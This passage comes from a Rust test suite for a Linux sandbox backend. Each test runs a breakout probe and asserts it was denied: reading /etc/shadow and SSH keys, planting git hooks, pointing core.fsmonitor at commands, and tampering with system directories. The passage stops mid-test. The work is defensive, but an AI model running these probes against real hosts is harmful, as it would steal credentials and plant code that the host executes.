//! The escape suite: attacks on the `linux` backend. Each test runs one attack inside the sandbox
//! and asserts both that it failed there and that the host is unchanged.
//!
//! A probe prints one line per attempt, `<attempt>: denied ...` or `<attempt>: ALLOWED ...`, and
//! ends with `PROBE-DONE`: a sandbox that cannot even start the probe fails the test instead of
//! passing it. The backend's preflight is asserted by every test, so a missing primitive always
//! fails; a missing host tool (python3, bash, strace) fails under `CI=true` and is skipped with a
//! notice elsewhere. Syscall probes run each call in a forked child, so a filter that kills the
//! caller counts as a denial.

use std::collections::{BTreeMap, BTreeSet};
use std::io::ErrorKind;
use std::net::{SocketAddr, TcpListener, UdpSocket};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use corral_exec::linux::LinuxBackend;
use corral_exec::{Backend, ExecOutput, ExecRequest, ResourceLimits};
use tempfile::TempDir;

const SIGKILL: i32 = 9;
const SIGXCPU: i32 = 24;

const PYTHON: &str = "/usr/bin/python3";
const BASH: &str = "/usr/bin/bash";
const STRACE: &str = "/usr/bin/strace";

/// Content of the secret files the sandbox must never read.
const SECRET: &str = "corral-escape-secret-7f3a9c1e";
/// Content of the canary files the sandbox must never change.
const CANARY: &str = "corral-escape-canary-untouched";
/// Content of the read-only root's data file.
const RO_DATA: &str = "read-only data";
/// The last line of every probe.
const DONE: &str = "PROBE-DONE";

/// Set in a copy of this test binary that plays corral for a test (see `child_role`).
const ROLE: &str = "CORRAL_ESCAPE_CHILD_ROLE";

// ---------------------------------------------------------------------------------------------
// Harness
// ---------------------------------------------------------------------------------------------

fn ci() -> bool {
    std::env::var("CI").is_ok_and(|v| v == "true")
}

/// Whether a host tool the probe needs is here. Under `CI=true` its absence fails the test.
fn host_has(path: &str) -> bool {
    if Path::new(path).exists() {
        return true;
    }
    assert!(
        !ci(),
        "`{path}` is missing on this host and CI=true: the escape suite needs it"
    );
    eprintln!("notice: `{path}` is missing on this host; skipping (this fails under CI=true)");
    false
}

/// Whether this test runs as root; a test that truly needs root says why and is skipped for a
/// normal user (CI runs the suite as both).
fn root_or_skip(why: &str) -> bool {
    if rustix::process::geteuid().is_root() {
        return true;
    }
    eprintln!("notice: this test needs root ({why}); skipping as a normal user");
    false
}

/// Whether corral's user has a memory cgroup here (root does on this host; a normal user does
/// not): an explicit memory limit needs one, the default cap falls back to RLIMIT_AS.
fn memory_cgroup() -> bool {
    corral_exec::linux::probe()
        .iter()
        .any(|p| p.name == "cgroup:memory" && p.available)
}

/// Sets a memory cap of `bytes` the way this user can have one: an explicit limit with a memory
/// cgroup, else the default cap (RLIMIT_AS).
fn cap_memory(req: &mut ExecRequest, bytes: u64) {
    if memory_cgroup() {
        req.limits.memory = Some(bytes);
    } else {
        req.limits.default_memory = Some(bytes);
    }
}

fn backend() -> LinuxBackend {
    let backend = crate::with_test_pool(LinuxBackend::new(PathBuf::from(env!(
        "CARGO_BIN_EXE_corral-sandbox-helper"
    ))));
    if let Err(e) = backend.preflight() {
        panic!("the linux backend cannot run here, so no escape test can pass: {e}");
    }
    backend
}

async fn run(req: ExecRequest) -> ExecOutput {
    match backend().run(req).await {
        Ok(out) => out,
        Err(e) => panic!("the sandbox did not run: {e}"),
    }
}

fn describe(out: &ExecOutput) -> String {
    format!(
        "exit {:?}, signal {:?}, timed out {}, {:?}\n--- stdout\n{}\n--- stderr\n{}\n--- attestation {:?}",
        out.exit_code,
        out.signal,
        out.timed_out,
        out.duration,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
        out.attestation,
    )
}

/// The probe's stdout, after checking that it ran to its end (else it proves nothing).
fn probe_output(out: &ExecOutput) -> String {
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        stdout.lines().any(|l| l == DONE),
        "the probe did not run to its end, so it proves nothing: {}",
        describe(out)
    );
    stdout
}

/// Asserts that each attempt was reported and denied, and that nothing was allowed. Attempts
/// named `control-...` are the probe's own checks that legitimate access works; they are skipped.
fn assert_denied(out: &ExecOutput, attempts: &[&str]) -> String {
    let stdout = probe_output(out);
    for attempt in attempts {
        let prefix = format!("{attempt}: ");
        let line = stdout.lines().find(|l| l.starts_with(&prefix));
        match line {
            Some(l) if l.starts_with(&format!("{attempt}: denied")) => {}
            Some(l) => panic!(
                "the attack `{attempt}` was not denied: `{l}`\n{}",
                describe(out)
            ),
            None => panic!("the probe did not report `{attempt}`\n{}", describe(out)),
        }
    }
    let bad: Vec<&str> = stdout
        .lines()
        .filter(|l| !l.starts_with("control-"))
        .filter(|l| l.contains(": ALLOWED") || l.contains(": PROBE-ERROR"))
        .collect();
    assert!(
        bad.is_empty(),
        "attacks succeeded (or a probe broke): {bad:#?}\n{}",
        describe(out)
    );
    stdout
}

fn assert_no_secret(out: &ExecOutput) {
    for (name, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(
            !String::from_utf8_lossy(bytes).contains(SECRET),
            "a host secret leaked into {name}: {}",
            describe(out)
        );
    }
}

/// A name no other run uses.
fn nonce() -> String {
    static COUNTER: AtomicU64 = AtomicU64::new(0);
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.subsec_nanos())
        .unwrap_or_default();
    format!(
        "{}-{}-{nanos}",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    )
}

/// One file's observable state, for "the host is unchanged".
#[derive(Debug, PartialEq, Eq)]
struct Entry {
    kind: &'static str,
    mode: u32,
    uid: u32,
    gid: u32,
    ino: u64,
    nlink: u64,
    len: u64,
    mtime: (i64, i64),
    ctime: (i64, i64),
    content: Option<Vec<u8>>,
    link: Option<PathBuf>,
}

type Snapshot = BTreeMap<PathBuf, Entry>;

/// Every entry under `root` (itself included), without following symlinks.
fn snapshot(root: &Path) -> Snapshot {
    fn walk(path: &Path, out: &mut Snapshot) {
        let Ok(meta) = std::fs::symlink_metadata(path) else {
            return;
        };
        let ft = meta.file_type();
        let kind = if ft.is_dir() {
            "dir"
        } else if ft.is_file() {
            "file"
        } else if ft.is_symlink() {
            "symlink"
        } else {
            "other"
        };
        let content = (ft.is_file() && meta.len() <= 1 << 20)
            .then(|| std::fs::read(path).ok())
            .flatten();
        let link = ft
            .is_symlink()
            .then(|| std::fs::read_link(path).ok())
            .flatten();
        out.insert(
            path.to_path_buf(),
            Entry {
                kind,
                mode: meta.mode(),
                uid: meta.uid(),
                gid: meta.gid(),
                ino: meta.ino(),
                nlink: meta.nlink(),
                len: meta.len(),
                mtime: (meta.mtime(), meta.mtime_nsec()),
                ctime: (meta.ctime(), meta.ctime_nsec()),
                content,
                link,
            },
        );
        if ft.is_dir()
            && let Ok(entries) = std::fs::read_dir(path)
        {
            for e in entries.flatten() {
                walk(&e.path(), out);
            }
        }
    }
    let mut out = Snapshot::new();
    walk(root, &mut out);
    out
}

fn assert_unchanged(before: &Snapshot, root: &Path, what: &str) {
    let after = snapshot(root);
    assert!(
        *before == after,
        "the host's {what} changed:\nbefore {before:#?}\nafter {after:#?}"
    );
}

/// Host paths outside any tempdir that a test created; removed on drop.
#[derive(Default)]
struct Cleanup(Vec<PathBuf>);

impl Drop for Cleanup {
    fn drop(&mut self) {
        for p in self.0.iter().rev() {
            if std::fs::symlink_metadata(p).is_ok_and(|m| m.is_dir()) {
                let _ = std::fs::remove_dir_all(p);
            } else {
                let _ = std::fs::remove_file(p);
            }
        }
    }
}

/// Shell helpers every shell probe starts with.
const SH_PRELUDE: &str = r#"
attempt() { n=$1; shift; if "$@" >/dev/null 2>&1; then echo "$n: ALLOWED"; else echo "$n: denied"; fi; }
leak() { n=$1; shift; if o=$("$@" 2>/dev/null); then echo "$n: ALLOWED $o"; else echo "$n: denied"; fi; }
write_to() ( printf pwned > "$1" )
append_to() ( printf pwned >> "$1" )
"#;

/// Python helpers every python probe starts with.
const PY_PRELUDE: &str = r#"
import ctypes, errno, os, platform, socket, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR = {
    'x86_64': dict(ioctl=16, ptrace=101, syslog=103, chroot=161, mount=165, umount2=166,
                   pivot_root=155, clone=56, kexec_load=246, add_key=248, keyctl=250,
                   unshare=272, perf_event_open=298, name_to_handle_at=303,
                   open_by_handle_at=304, setns=308, process_vm_readv=310,
                   process_vm_writev=311, bpf=321, userfaultfd=323, io_uring_setup=425,
                   open_tree=428, fsopen=430, init_module=175, finit_module=313, clone3=435),
    'aarch64': dict(ioctl=29, ptrace=117, syslog=116, chroot=51, mount=40, umount2=39,
                    pivot_root=41, clone=220, kexec_load=104, add_key=217, keyctl=219,
                    unshare=97, perf_event_open=241, name_to_handle_at=264,
                    open_by_handle_at=265, setns=268, process_vm_readv=270,
                    process_vm_writev=271, bpf=280, userfaultfd=282, io_uring_setup=425,
                    open_tree=428, fsopen=430, init_module=105, finit_module=273, clone3=435),
}[platform.machine()]
def errname(e):
    return errno.errorcode.get(e, str(e))
def report(name, allowed, detail=''):
    print(f"{name}: {'ALLOWED' if allowed else 'denied'} {detail}".rstrip(), flush=True)
def in_child(name, fn):
    """Runs fn in a forked child: a filter that kills the caller counts as a denial."""
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        try:
            fn()
        except BaseException as e:
            print(f"{name}: PROBE-ERROR {e!r}", flush=True)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        sig = os.WTERMSIG(status)
        if sig == 31:
            report(name, False, 'killed by SIGSYS (seccomp)')
        else:
            print(f"{name}: PROBE-ERROR killed by signal {sig}", flush=True)
def arg(a):
    if isinstance(a, int):
        return ctypes.c_long(a)
    if isinstance(a, str):
        return ctypes.c_char_p(a.encode())
    if isinstance(a, bytes):
        return ctypes.c_char_p(a)
    return a
def raw(nr_name, *args):
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(NR[nr_name]), *[arg(a) for a in args])
    return r, ctypes.get_errno()
def syscall(name, nr_name, *args):
    def go():
        r, e = raw(nr_name, *args)
        report(name, r != -1, f'ret={r} errno={errname(e)}')
    in_child(name, go)
def run_ok(argv):
    r = subprocess.run(argv, capture_output=True)
    if r.returncode != 0:
        raise PermissionError(errno.EPERM, f'{argv[0]} exited {r.returncode}: {r.stderr[-200:]!r}')
    return 'exit 0'
def attempt(name, fn):
    def go():
        try:
            r = fn()
        except OSError as e:
            report(name, False, f'{errname(e.errno)} {e}')
        else:
            report(name, True, repr(r)[:300])
    in_child(name, go)
"#;

/// One attack's world: a writable root, a read-only root, and host places outside both.
struct World {
    /// The writable root (under /tmp, as tempdirs are).
    work: TempDir,
    /// The read-only root, with `data`.
    ro: TempDir,
    /// A host directory in /tmp in neither list, with `secret` and `canary`.
    host_tmp: TempDir,
    /// A host directory outside /tmp (under the target dir) in neither list, likewise.
    host_far: TempDir,
}

/// Under the target dir, or, for a user who may not write there (CI runs this suite as a normal
/// user too), under `$HOME`: either is outside the temp dir.
fn tempdir_far() -> TempDir {
    let base = Path::new(env!("CARGO_TARGET_TMPDIR"));
    match std::fs::create_dir_all(base).and_then(|()| tempfile::tempdir_in(base)) {
        Ok(dir) => dir,
        Err(e) if e.kind() == ErrorKind::PermissionDenied => {
            let home = std::env::var_os("HOME").expect("HOME is set");
            tempfile::tempdir_in(home).unwrap()
        }
        Err(e) => panic!("{}: {e}", base.display()),
    }
}

fn write(path: &Path, content: &str) {
    std::fs::write(path, content).unwrap();
}

impl World {
    fn new() -> Self {
        let w = World {
            work: tempfile::tempdir().unwrap(),
            ro: tempfile::tempdir().unwrap(),
            host_tmp: tempfile::tempdir().unwrap(),
            host_far: tempdir_far(),
        };
        for dir in [&w.host_tmp, &w.host_far] {
            write(&dir.path().join("secret"), SECRET);
            write(&dir.path().join("canary"), CANARY);
        }
        write(&w.ro.path().join("data"), RO_DATA);
        std::fs::create_dir(w.ro.path().join("sub")).unwrap();
        w
    }

    fn w(&self) -> &Path {
        self.work.path()
    }
    fn ro(&self) -> &Path {
        self.ro.path()
    }
    fn ht(&self) -> &Path {
        self.host_tmp.path()
    }
    fn hf(&self) -> &Path {
        self.host_far.path()
    }

    /// The host-side state that no attack may change (the writable root is the sandbox's).
    fn host_state(&self) -> Vec<(PathBuf, Snapshot)> {
        [self.ro(), self.ht(), self.hf()]
            .into_iter()
            .map(|p| (p.to_path_buf(), snapshot(p)))
            .collect()
    }

    fn assert_host_unchanged(&self, before: &[(PathBuf, Snapshot)]) {
        for (path, snap) in before {
            assert_unchanged(snap, path, &path.display().to_string());
        }
    }

    fn request(&self, argv: Vec<String>) -> ExecRequest {
        let var = |k: &str, p: &Path| (k.to_owned(), p.display().to_string());
        ExecRequest {
            argv,
            cwd: self.w().to_path_buf(),
            env: vec![
                ("PATH".into(), "/usr/bin:/bin:/usr/sbin:/sbin".into()),
                var("W", self.w()),
                var("RO", self.ro()),
                var("HT", self.ht()),
                var("HF", self.hf()),
            ],
            stdin: None,
            timeout: Duration::from_secs(30),
            max_output_bytes: 1024 * 1024,
            limits: ResourceLimits::default(),
            read_paths: vec![self.ro().to_path_buf()],
            write_paths: vec![self.w().to_path_buf()],
            protected: Default::default(),
            network: None,
            exec_only: None,
            hold: None,
            apply_only_if_ok: false,
            host_writes: None,
        }
    }

    /// `sh -c` with the shell prelude, ending with the done marker.
    fn sh(&self, script: &str) -> ExecRequest {
        let script = format!("{SH_PRELUDE}\n{script}\necho {DONE}\n");
        self.request(vec!["/bin/sh".into(), "-c".into(), script])
    }

    /// `python3 -I -c` with the python prelude, ending with the done marker.
    fn py(&self, code: &str) -> ExecRequest {
        let code = format!("{PY_PRELUDE}\n{code}\nprint({DONE:?}, flush=True)\n");
        self.request(vec![PYTHON.into(), "-I".into(), "-c".into(), code])
    }
}

/// Adds `KEY=value` to a request's environment.
fn with_env(mut req: ExecRequest, key: &str, value: impl ToString) -> ExecRequest {
    req.env.push((key.to_owned(), value.to_string()));
    req
}

/// Which role this copy of the test binary plays, when a test re-executed it.
fn child_role() -> Option<String> {
    std::env::var(ROLE).ok()
}

/// This test binary, running only `test` (a path like `escapes::name`) as a child role.
fn reexec(test: &str, role: &str) -> Command {
    // `/proc/self/exe`, not `current_exe()`: a concurrent `cargo test` may replace the file.
    let mut cmd = Command::new("/proc/self/exe");
    cmd.args([test, "--exact", "--nocapture", "--test-threads=1"])
        .env(ROLE, role);
    cmd
}

/// The cmdlines of host processes whose cmdline contains `needle`.
fn host_processes_with(needle: &str) -> Vec<(u32, String)> {
    let mut found = Vec::new();
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return found;
    };
    for e in entries.flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<u32>().ok()) else {
            continue;
        };
        if let Ok(cmdline) = std::fs::read(e.path().join("cmdline")) {
            let cmdline = String::from_utf8_lossy(&cmdline).replace('\0', " ");
            if cmdline.contains(needle) {
                found.push((pid, cmdline));
            }
        }
    }
    found
}

/// Waits up to `limit` for `cond`.
fn eventually(limit: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + limit;
    loop {
        if cond() {
            return true;
        }
        if Instant::now() > deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn assert_no_tcp_connection(listener: &TcpListener) {
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Ok((_, peer)) => panic!("the host listener saw a connection from {peer}"),
        Err(e) => panic!("accept failed oddly: {e}"),
    }
}

fn assert_no_unix_connection(listener: &UnixListener) {
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        Ok(_) => panic!("the host unix socket accepted a connection from the sandbox"),
        Err(e) => panic!("accept failed oddly: {e}"),
    }
}

fn tcp_listener(addr: &str) -> TcpListener {
    let l = TcpListener::bind(addr).unwrap();
    l.set_nonblocking(true).unwrap();
    l
}

/// The host's own non-loopback IPv4 address (no packet is sent).
fn host_external_ip() -> Option<std::net::IpAddr> {
    let s = UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("192.0.2.254:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

/// A host listener and the python snippet that tries to reach it.
fn py_connect(name: &str, family: &str, addr: SocketAddr) -> String {
    let func = name.replace('-', "_");
    format!(
        "def {func}():\n    s = socket.socket(socket.{family}, socket.SOCK_STREAM)\n    s.settimeout(3)\n    s.connect(({ip:?}, {port}))\n    s.sendall(b'escaped')\n    return s.getpeername()\nattempt({name:?}, {func})\n",
        ip = addr.ip().to_string(),
        port = addr.port(),
    )
}

// ---------------------------------------------------------------------------------------------
// Writes outside the writable roots
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn writing_into_host_directories_outside_the_writable_roots_fails() {
    let world = World::new();
    let before = world.host_state();
    let out = run(world.sh(r#"
for d in "$HT" "$HF"; do
  tag=$(basename "$d")
  attempt "overwrite-$tag" write_to "$d/canary"
  attempt "append-$tag" append_to "$d/canary"
  attempt "create-$tag" write_to "$d/new"
  attempt "remove-$tag" rm "$d/canary"
  attempt "mkdir-$tag" mkdir "$d/newdir"
done
"#))
    .await;
    let stdout = assert_denied(&out, &[]);
    assert_eq!(stdout.matches(": denied").count(), 10, "{stdout}");
    world.assert_host_unchanged(&before);
}

#[tokio::test]
async fn creating_files_in_read_only_system_directories_fails() {
    let world = World::new();
    let name = format!("corral-escape-{}", nonce());
    let dirs = ["/etc", "/usr", "/usr/bin", "/usr/lib", "/usr/local"];
    let _cleanup = Cleanup(dirs.iter().map(|d| Path::new(d).join(&name)).collect());
    let out = run(with_env(
        world.sh(r#"
for d in /etc /usr /usr/bin /usr/lib /usr/local; do
  attempt "create-in-$d" write_to "$d/$NAME"
  attempt "mkdir-in-$d" mkdir "$d/$NAME.d"
done
"#),
        "NAME",
        &name,
    ))
    .await;
    let stdout = assert_denied(&out, &["create-in-/etc", "create-in-/usr/bin"]);
    assert_eq!(stdout.matches(": denied").count(), 10, "{stdout}");
    for d in dirs {
        for n in [name.clone(), format!("{name}.d")] {
            let p = Path::new(d).join(n);
            assert!(
                !p.exists(),
                "the sandbox created `{}` on the host",
                p.display()
            );
        }
    }
}

#[tokio::test]
async fn overwriting_an_existing_file_in_a_system_directory_fails() {
    if !root_or_skip("it plants a file in /usr/local/share") {
        return;
    }
    let world = World::new();
    let path = Path::new("/usr/local/share").join(format!("corral-escape-{}", nonce()));
    let _cleanup = Cleanup(vec![path.clone()]);
    write(&path, CANARY);
    let before = snapshot(&path);
    let out = run(with_env(
        world.sh(r#"
attempt overwrite write_to "$T"
attempt append append_to "$T"
attempt truncate truncate -s 0 "$T"
attempt remove rm "$T"
attempt chmod chmod 777 "$T"
attempt touch touch -d 2001-01-01 "$T"
"#),
        "T",
        path.display(),
    ))
    .await;
    assert_denied(
        &out,
        &[
            "overwrite",
            "append",
            "truncate",
            "remove",
            "chmod",
            "touch",
        ],
    );
    assert_unchanged(&before, &path, "system file");
}

#[tokio::test]
async fn writes_aimed_at_the_hosts_root_and_home_never_reach_them() {
    // The root view may be a writable per-run tmpfs: creating a file there is not an escape,
    // reaching the host's `/`, `/root` or `/var/tmp` is.
    let world = World::new();
    let name = format!("corral-escape-{}", nonce());
    let home = PathBuf::from(std::env::var("HOME").unwrap_or_else(|_| "/root".into()));
    let targets = [
        Path::new("/").join(&name),
        home.join(&name),
        Path::new("/var/tmp").join(&name),
        Path::new("/work").join(&name),
    ];
    let _cleanup = Cleanup(targets.to_vec());
    let mut script = String::new();
    for (i, t) in targets.iter().enumerate() {
        script.push_str(&format!(
            "mkdir -p \"$(dirname '{t}')\" 2>/dev/null; attempt host-target-{i} write_to '{t}'\n",
            t = t.display()
        ));
    }
    let out = run(world.sh(&script)).await;
    probe_output(&out);
    for t in &targets {
        assert!(
            !t.exists(),
            "the sandbox created `{}` on the host: {}",
            t.display(),
            describe(&out)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Read-only roots
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn writing_into_a_read_only_root_fails() {
    let world = World::new();
    let before = world.host_state();
    let out = run(world.sh(r#"
attempt overwrite write_to "$RO/data"
attempt append append_to "$RO/data"
attempt truncate truncate -s 0 "$RO/data"
attempt create write_to "$RO/new"
attempt mkdir mkdir "$RO/newdir"
attempt symlink ln -s /etc/passwd "$RO/link"
attempt mkfifo mkfifo "$RO/fifo"
"#))
    .await;
    assert_denied(
        &out,
        &[
            "overwrite",
            "append",
            "truncate",
            "create",
            "mkdir",
            "symlink",
            "mkfifo",
        ],
    );
    world.assert_host_unchanged(&before);
}

#[tokio::test]
async fn deleting_or_renaming_in_a_read_only_root_fails() {
    let world = World::new();
    let before = world.host_state();
    let out = run(world.sh(r#"
attempt remove rm "$RO/data"
attempt rmdir rmdir "$RO/sub"
attempt rename-inside mv "$RO/data" "$RO/data2"
attempt move-out mv "$RO/data" "$W/stolen"
attempt remove-root rm -rf "$RO"
"#))
    .await;
    assert_denied(
        &out,
        &[
            "remove",
            "rmdir",
            "rename-inside",
            "move-out",
            "remove-root",
        ],
    );
    world.assert_host_unchanged(&before);
}

#[tokio::test]
async fn changing_metadata_in_a_read_only_root_fails() {
    if !host_has(PYTHON) {
        return;
    }
    let world = World::new();
    let before = world.host_state();
    let out = run(world.py(r#"
ro = os.environ['RO']
attempt('chmod', lambda: os.chmod(ro + '/data', 0o777))
attempt('utime', lambda: os.utime(ro + '/data', (0, 0)))
attempt('chown', lambda: os.chown(ro + '/data', os.getuid(), os.getgid()))
attempt('setxattr', lambda: os.setxattr(ro + '/data', 'user.corral', b'pwned'))
attempt('chmod-root', lambda: os.chmod(ro, 0o777))
"#))
    .await;
    assert_denied(&out, &["chmod", "utime", "chown", "setxattr", "chmod-root"]);
    world.assert_host_unchanged(&before);
}

// ---------------------------------------------------------------------------------------------
// Protected metadata inside a writable root
// ---------------------------------------------------------------------------------------------

/// A writable root holding a git repository's metadata and corral's own directory.
fn world_with_metadata() -> World {
    let world = World::new();
    let hooks = world.w().join(".git/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    write(&hooks.join("pre-commit"), "#!/bin/sh\nexit 0\n");
    std::fs::set_permissions(
        hooks.join("pre-commit"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    write(
        &world.w().join(".git/config"),
        "[core]\n\trepositoryformatversion = 0\n",
    );
    write(&world.w().join(".git/HEAD"), "ref: refs/heads/main\n");
    let corral = world.w().join(".corral");
    std::fs::create_dir_all(&corral).unwrap();
    write(&corral.join("config.yaml"), CANARY);
    write(&world.w().join("README"), "a workspace file\n");
    world
}

#[tokio::test]
async fn the_git_hooks_directory_inside_a_writable_root_stays_read_only() {
    let world = world_with_metadata();
    let hooks = world.w().join(".git/hooks");
    let before = snapshot(&hooks);
    let out = run(world.sh(r#"
attempt overwrite-hook write_to .git/hooks/pre-commit
attempt append-hook append_to .git/hooks/pre-commit
attempt new-hook write_to .git/hooks/post-checkout
attempt remove-hook rm .git/hooks/pre-commit
attempt chmod-hook chmod 777 .git/hooks/pre-commit
attempt symlink-hook ln -s /bin/sh .git/hooks/pre-push
attempt control-write write_to README
"#))
    .await;
    let stdout = assert_denied(
        &out,
        &[
            "overwrite-hook",
            "append-hook",
            "new-hook",
            "remove-hook",
            "chmod-hook",
            "symlink-hook",
        ],
    );
    assert!(
        stdout.contains("control-write: ALLOWED"),
        "the writable root itself must stay writable: {}",
        describe(&out)
    );
    assert_unchanged(&before, &hooks, ".git/hooks");
}

#[tokio::test]
async fn git_config_inside_a_writable_root_cannot_be_pointed_at_a_command() {
    // `core.fsmonitor` and `core.hooksPath` run commands on the host's next `git status`: the
    // whole `.git` is as dangerous as `.git/hooks`.
    let world = world_with_metadata();
    let git = world.w().join(".git");
    let before = snapshot(&git);
    let out = run(world.sh(
        r#"
attempt fsmonitor append_to .git/config
attempt hookspath sh -c 'printf "[core]\n\thooksPath = /tmp/evil\n" >> .git/config'
attempt replace-config sh -c 'printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" > .git/config.new && mv .git/config.new .git/config'
attempt head write_to .git/HEAD
"#,
    ))
    .await;
    assert_denied(&out, &["fsmonitor", "hookspath", "replace-config", "head"]);
    assert_unchanged(&before, &git, ".git");
}

#[tokio::test]
async fn the_corral_directory_inside_a_writable_root_stays_read_only() {
    let world = world_with_metadata();
    let corral = world.w().join(".corral");
    let before = snapshot(&corral);
    let out = run(world.sh(r#"
attempt overwrite write_to .corral/config.yaml
attempt append append_to .corral/config.yaml
attempt create write_to .corral/policy.yaml
attempt remove rm .corral/config.yaml
attempt rename-away mv .corral .corral-old
attempt remove-dir rm -rf .corral
"#))
    .await;
    assert_denied(
        &out,
        &[
            "overwrite",
            "append",
            "create",
            "remove",
            "rename-away",
            "remove-dir",
        ],
    );
    assert_unchanged(&before, &corral, ".corral");
}

#[tokio::test]
async fn moving_git_metadata_aside_and_recreating_it_does_not_plant_a_hook() {
    // If only the `.git/hooks` mount is protected, renaming its parent moves the protection away
    // and a fresh `.git/hooks` is writable: the host's next commit would run the planted hook.
    let world = world_with_metadata();
    let git = world.w().join(".git");
    let before = snapshot(&git);
    let out = run(world.sh(
        r#"
plant() ( mkdir -p .git/hooks && printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit )
attempt rename-hooks sh -c 'mv .git/hooks .git/hooks-old'
attempt rename-git sh -c 'mv .git .git-old'
attempt remove-git rm -rf .git
attempt plant plant
"#,
    ))
    .await;
    assert_denied(&out, &["rename-hooks", "rename-git", "remove-git", "plant"]);
    assert_unchanged(&before, &git, ".git");
    for aside in [".git-old", ".git/hooks-old"] {
        assert!(!world.w().join(aside).exists(), "{aside} appeared");
    }
}

#[tokio::test]
async fn a_nested_repositorys_git_metadata_inside_a_writable_root_stays_read_only() {
    // Vendored checkouts and nested repositories are common: the host's next `git` command run
    // inside one executes its hooks and `core.fsmonitor` just like the top-level repository's.
    let world = world_with_metadata();
    let nested = world.w().join("vendor/lib/.git");
    std::fs::create_dir_all(nested.join("hooks")).unwrap();
    write(
        &nested.join("config"),
        "[core]\n\trepositoryformatversion = 0\n",
    );
    write(&nested.join("HEAD"), "ref: refs/heads/main\n");
    let before = snapshot(&nested);
    let out = run(world.sh(
        r##"
attempt nested-hook sh -c 'printf "#!/bin/sh\ntouch /tmp/pwned\n" > vendor/lib/.git/hooks/pre-commit'
attempt nested-config append_to vendor/lib/.git/config
attempt nested-rename mv vendor/lib/.git vendor/lib/.git-old
"##,
    ))
    .await;
    assert_denied(&out, &["nested-hook", "nested-config", "nested-rename"]);
    assert_unchanged(&before, &nested, "vendor/lib/.git");
}

#[tokio::test]
async fn a_symlinked_git_dir_in_a_writable_root_cannot_be_swapped_for_the_sandboxs_own() {
    // `.git` may be a symlink to the real git directory. Replacing the symlink with a directory
    // of the sandbox's making hands the host's next `git status` a config of its choosing.
    let world = World::new();
    let gitdir = world.ht().join("repo.git");
    std::fs::create_dir_all(gitdir.join("hooks")).unwrap();
    write(
        &gitdir.join("config"),
        "[core]\n\trepositoryformatversion = 0\n",
    );
    write(&gitdir.join("HEAD"), "ref: refs/heads/main\n");
    let link = world.w().join(".git");
    std::os::unix::fs::symlink(&gitdir, &link).unwrap();
    let before = world.host_state();
    let out = run(world.sh(
        r#"
attempt replace-link sh -c 'rm .git && mkdir -p .git/hooks && printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" > .git/config'
attempt retarget-link sh -c 'ln -sfn "$W/evil" .git'
"#,
    ))
    .await;
    assert_denied(&out, &["replace-link", "retarget-link"]);
    assert_eq!(
        std::fs::read_link(&link).ok(),
        Some(gitdir),
        "the host's .git no longer points at the real git directory"
    );
    world.assert_host_unchanged(&before);
}

// ---------------------------------------------------------------------------------------------
// Reads outside the scope
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn reading_etc_shadow_fails() {
    let world = World::new();
    let shadow = std::fs::read_to_string("/etc/shadow").unwrap_or_default();
    let out = run(world.sh(r#"
leak shadow cat /etc/shadow
leak gshadow cat /etc/gshadow
"#))
    .await;
    assert_denied(&out, &["shadow", "gshadow"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    for line in shadow.lines().filter(|l| l.len() > 8) {
        assert!(
            !stdout.contains(line),
            "a line of /etc/shadow leaked: {line}"
        );
    }
}

#[tokio::test]
async fn reading_the_ssh_directory_of_the_home_fails() {
    let world = World::new();
    let home = PathBuf::from(std::env::var("HOME").unwrap_or_else(|_| "/root".into()));
    let ssh = home.join(".ssh");
    let mut cleanup = Cleanup::default();
    if !ssh.exists() {
        std::fs::create_dir(&ssh).unwrap();
        std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o700)).unwrap();
        cleanup.0.push(ssh.clone());
    }
    let key = ssh.join(format!("corral-escape-{}", nonce()));
    cleanup.0.push(key.clone());
    write(&key, SECRET);
    let out = run(with_env(
        with_env(
            world.sh(r#"
leak key cat "$KEY"
leak by-root cat "/root/.ssh/$(basename "$KEY")"
leak list-ssh sh -c 'ls -A "$HOST_HOME/.ssh" | grep corral-escape'
"#),
            "KEY",
            key.display(),
        ),
        "HOST_HOME",
        home.display(),
    ))
    .await;
    assert_denied(&out, &["key", "by-root", "list-ssh"]);
    assert_no_secret(&out);
    drop(cleanup);
}

#[tokio::test]
async fn listing_the_root_home_reveals_none_of_its_entries() {
    if !root_or_skip("only root can list the host's /root to compare") {
        return;
    }
    let world = World::new();
    let host: BTreeSet<String> = std::fs::read_dir("/root")
        .map(|d| {
